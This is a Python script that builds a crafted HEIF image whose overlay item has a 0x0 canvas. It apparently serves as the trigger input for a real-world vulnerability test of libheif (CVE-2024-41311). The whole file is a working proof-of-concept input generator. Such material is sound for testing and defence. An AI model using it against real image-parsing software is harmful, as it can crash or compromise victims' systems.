#!/usr/bin/env python3
"""libheif-overlay.py BASE OUT: writes OUT, a HEIF file whose primary image is an overlay ("iovl")
of a 0x0 canvas holding BASE's primary HEVC image (its hvcC, its size and its coded data, copied).
The trigger of tests/realworld/cases/libheif.sh (CVE-2024-41311: libheif accepted the empty canvas)."""
import struct
import sys


def boxes(buf, start, end):
    while start < end:
        size, kind = struct.unpack('>I4s', buf[start:start + 8])
        header = 8
        if size == 1:
            size = struct.unpack('>Q', buf[start + 8:start + 16])[0]
            header = 16
        elif size == 0:
            size = end - start
        yield kind.decode('latin1'), start, header, size
        start += size


def child(buf, start, end, kind):
    for k, s, h, n in boxes(buf, start, end):
        if k == kind:
            return s, h, n
    sys.exit('no %s box in %s' % (kind, sys.argv[1]))


def box(kind, payload):
    return struct.pack('>I4s', 8 + len(payload), kind.encode()) + payload


def full(kind, version, flags, payload):
    return box(kind, struct.pack('>I', (version << 24) | flags) + payload)


def base_image(buf):
    s, h, n = child(buf, 0, len(buf), 'meta')
    meta = (s + h + 4, s + n)
    s, h, n = child(buf, *meta, 'iprp')
    s, h, n = child(buf, s + h, s + n, 'ipco')
    props = {k: buf[ps:ps + pn] for k, ps, ph, pn in boxes(buf, s + h, s + n)}
    s, h, n = child(buf, *meta, 'iloc')
    p = s + h
    version = buf[p]
    p += 4
    sizes = struct.unpack('>H', buf[p:p + 2])[0]
    offset_size, length_size, base_size = sizes >> 12, (sizes >> 8) & 15, (sizes >> 4) & 15
    index_size = sizes & 15 if version in (1, 2) else 0
    p += 2
    count = struct.unpack('>H', buf[p:p + 2])[0]
    p += 2
    if count < 1:
        sys.exit('%s locates no item' % sys.argv[1])
    p += 2 + (2 if version in (1, 2) else 0) + 2  # item_ID, construction_method, data_reference_index

    def uint(size):
        nonlocal p
        value = int.from_bytes(buf[p:p + size], 'big') if size else 0
        p += size
        return value
    base = uint(base_size)
    extents = uint(2)
    if extents != 1:
        sys.exit('%s: the first item has %d extents, not 1' % (sys.argv[1], extents))
    uint(index_size)
    offset = uint(offset_size)
    length = uint(length_size)
    return props['hvcC'], props['ispe'], buf[base + offset:base + offset + length]


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    hvcc, ispe, coded = base_image(open(sys.argv[1], 'rb').read())
    # iovl, version 0, 16-bit fields: canvas fill (RGBA), canvas 0x0, the one image at (0, 0).
    overlay = struct.pack('>BB4HHHhh', 0, 0, 0, 0, 0, 0xffff, 0, 0, 0, 0)
    ftyp = box('ftyp', b'heic' + struct.pack('>I', 0) + b'mif1heic')

    def meta(data_start):
        hdlr = full('hdlr', 0, 0, struct.pack('>I', 0) + b'pict' + bytes(12) + b'\0')
        pitm = full('pitm', 0, 0, struct.pack('>H', 2))
        iinf = full('iinf', 0, 0, struct.pack('>H', 2)
                    + full('infe', 2, 0, struct.pack('>HH', 1, 0) + b'hvc1' + b'\0')
                    + full('infe', 2, 0, struct.pack('>HH', 2, 0) + b'iovl' + b'\0'))
        iref = full('iref', 0, 0, box('dimg', struct.pack('>HHH', 2, 1, 1)))
        ipco = box('ipco', hvcc + ispe + full('ispe', 0, 0, struct.pack('>II', 0, 0)))
        ipma = full('ipma', 0, 0, struct.pack('>I', 2)
                    + struct.pack('>HB', 1, 2) + bytes([0x80 | 1, 2])
                    + struct.pack('>HB', 2, 1) + bytes([3]))
        iloc = full('iloc', 1, 0, struct.pack('>HH', 0x4400, 2)
                    + struct.pack('>HHHHII', 1, 0, 0, 1, data_start, len(coded))
                    + struct.pack('>HHHHII', 2, 0, 0, 1, data_start + len(coded), len(overlay)))
        return full('meta', 0, 0, hdlr + pitm + iinf + iref + box('iprp', ipco + ipma) + iloc)
    start = len(ftyp) + len(meta(0)) + 8
    with open(sys.argv[2], 'wb') as out:
        out.write(ftyp + meta(start) + box('mdat', coded + overlay))


main()
